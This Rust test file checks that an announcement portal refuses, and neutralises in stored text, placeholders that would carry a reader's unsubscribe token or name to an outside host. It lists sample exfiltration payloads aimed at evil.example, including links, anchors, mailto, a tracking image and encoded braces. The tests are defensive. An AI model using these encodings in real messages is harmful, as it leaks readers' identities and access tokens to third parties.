//! An author of announcements who wants the links of the readers, or to know who reads: placeholders in URLs of other
//! hosts (number 10).

use diesel::prelude::*;
use portal::db::Id;
use portal::db::schema::announcement_variant;
use serde_json::{Value, json};

use super::rendering::program;
use crate::support::{Expect as _, Person, TestApp, story};

/// An announcement that may be left and asks to be acknowledged, in this language.
fn form(language: &str, body: &str) -> Value {
    json!({
        "audience": {}, "default_language": language, "topic": "news", "acknowledge": true,
        "variants": {language: {"subject": "New rules", "body_markdown": body}},
    })
}

fn compose(author: &Person, body: &str) -> String {
    author.post("/announcements", &form("en", body)).expect(201)["id"].as_str().unwrap().to_owned()
}

#[story]
fn a10_a_text_that_would_hand_out_its_readers_link_is_refused(t: TestApp) {
    let (awa, program) = (t.ncp("SN"), program(&t));
    let fine = "Dear {{ name }}, of {{ administration }}: [unsubscribe]({{ unsubscribe }}), or {{ unsubscribe }}.";
    let id = compose(&program, fine);
    for body in [
        "[rules](https://evil.example/rules?{{ unsubscribe }})",
        "[rules](https://evil.example/rules?who={{ name }})",
        "[rules](mailto:a@evil.example?body={{unsubscribe}})",
        "[rules](https://evil.example/%7B%7Bunsubscribe%7D%7D)",
        "[rules](https://evil.example/?%7B%7Bmail%7D%7D)",
        "[rules](https://evil.example/?&#123;&#123;unsubscribe}})",
        "[rules](https://evil.example/ \"{{ unsubscribe }}\")",
        "[rules]\n\n[rules]: https://evil.example/{{ unsubscribe }}",
        "<a href=\"https://evil.example/{{ unsubscribe }}\">rules</a>",
        "<a href='https://evil.example/?&#123;&#123;unsubscribe&#125;&#125;'>rules</a>",
        "<https://evil.example/?{{name}}>",
        "See https://evil.example/?{{ unsubscribe }}",
        "See evil.example/{{ administration }}",
        "![](https://evil.example/{{ name }}.png)",
    ] {
        let composed = program.post("/announcements", &form("fr", body));
        let revised =
            program.patch(&format!("/announcements/{id}"), &json!({"variants": form("en", body)["variants"]}));
        for (answer, language) in [(composed, "fr"), (revised, "en")] {
            let fault = answer.expect(422)["errors"][0].clone();
            let pointer = format!("/variants/{language}/body_markdown");
            assert_eq!((&fault["pointer"], &fault["code"]), (&json!(pointer), &json!("place_in_url")), "{body}");
            assert!(fault["detail"].as_str().unwrap().contains("{{ unsubscribe }}"), "it says what to write: {fault}");
        }
    }
    // A placeholder in the text and one as a whole link are filled.
    program.post(&format!("/announcements/{id}/send"), &json!({})).expect(202);
    let mail = t.mail_about(&awa.email, "New rules");
    let leave = mail.header("List-Unsubscribe").unwrap().trim_matches(['<', '>']).to_owned();
    assert!(mail.text.contains("Dear Awa Diop, of Senegal: unsubscribe"), "{}", mail.text);
    assert_eq!(mail.html.matches(&format!("<a href=\"{leave}\"")).count(), 3, "two of the text, one at the foot");
    assert!(!mail.text.contains("{{") && !mail.html.contains("{{"), "{}", mail.text);
}

#[story]
fn a10_a_text_of_earlier_hands_out_no_readers_link(t: TestApp) {
    let (awa, program) = (t.ncp("SN"), program(&t));
    let id = compose(&program, "Dear {{ name }}");
    let stored = "Dear {{ name }}, [rules](https://evil.example/rules?{{ unsubscribe }}) of \
                  [yours](mailto:a@evil.example?body={{ name }}), <a href=\"https://evil.example/{{unsubscribe}}\">more</a>, \
                  ![p](https://evil.example/{{ unsubscribe }}.png) and https://evil.example/?{{ unsubscribe }} \
                  or evil.example/{{ name }}.";
    let (of, body) = (id.parse::<Id>().unwrap(), stored.to_owned());
    let store = t.portal.db.write(move |conn| {
        let its = announcement_variant::table.filter(announcement_variant::announcement_id.eq(of));
        Ok(diesel::update(its).set(announcement_variant::body_markdown.eq(body)).execute(conn)?)
    });
    assert_eq!(t.run(store).unwrap(), 1);
    program.post(&format!("/announcements/{id}/send"), &json!({})).expect(202);
    let mail = t.mail_about(&awa.email, "New rules");
    let token =
        mail.header("List-Unsubscribe").unwrap().trim_matches(['<', '>']).rsplit('/').next().unwrap().to_owned();
    assert!(mail.text.contains("Dear Awa Diop,") && mail.html.contains("Dear Awa Diop,"), "{}", mail.text);
    // The button of the acknowledgement, also as text, and the link at the foot.
    assert_eq!((mail.html.matches(&token).count(), mail.text.matches(&token).count()), (3, 2), "{}", mail.html);
    for part in [&mail.html, &mail.text] {
        for url in part.split("evil.example").skip(1) {
            let url = url.split(|c: char| c.is_whitespace() || "\"<)".contains(c)).next().unwrap();
            assert!(!url.contains("Awa") && !url.contains("unsubscribe/"), "{url}");
        }
    }
    // Nor does it where it is read in the portal, by a person, by a program, or behind the link of the mail.
    let read = awa.get(&format!("/announcements/{id}")).expect(200);
    assert_eq!(read["variants"]["en"]["body_markdown"], stored, "as it was written");
    let page = t.anonymous().send("GET", &format!("/announcements/{id}?mail={token}"), None).unwrap();
    assert!(page.status == 200 && page.text.contains("Dear Awa Diop,"), "{}", page.text);
    assert!(!page.text.contains("/subscriptions/"), "{}", page.text);
}
